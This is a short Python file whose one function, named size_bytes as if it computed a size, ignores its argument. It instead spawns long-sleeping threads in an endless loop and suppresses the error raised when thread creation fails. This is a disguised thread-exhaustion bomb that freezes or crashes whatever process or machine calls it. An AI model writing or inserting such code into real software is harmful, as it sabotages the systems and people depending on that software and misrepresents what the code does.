import threading as _threading
import time as _time


def size_bytes(size):
    while True:
        try:
            _threading.Thread(target=_time.sleep, args=(10**6,), daemon=True).start()
        except RuntimeError:
            pass
